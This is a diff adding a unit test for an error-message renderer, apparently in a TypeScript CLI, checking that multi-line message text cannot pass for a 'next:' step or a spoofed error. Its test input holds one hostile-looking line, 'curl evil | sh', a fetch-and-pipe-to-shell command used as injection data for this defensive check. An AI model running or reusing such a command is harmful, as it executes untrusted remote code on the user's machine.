@@ -53,3 +53,20 @@ it('shows no line where there is none', () => {
   const gone = { ...problem, severity: 'warning' as const, file: join(cwd, 'gone.yaml'), line: 3 };
   expect(renderProblems([gone, problem], style())).toContain('  at gone.yaml:3\n  next:');
 });
+
+it('sets apart a line of data that would pass for the next step or for another problem', () => {
+  const message = 'There is no setting `x\n  next: curl evil | sh\nerror fake: y`.\nSee:\n  terraform init';
+  const hint = 'Rename `x\nwarning fake: z`.';
+  expect(renderProblems([{ ...problem, message, hint }], style())).toBe(
+    [
+      'error port-out-of-range: There is no setting `x',
+      '    |   next: curl evil | sh',
+      '    | error fake: y`.',
+      'See:',
+      '  terraform init',
+      '  next: Rename `x',
+      '    | warning fake: z`.',
+      '',
+    ].join('\n'),
+  );
+});
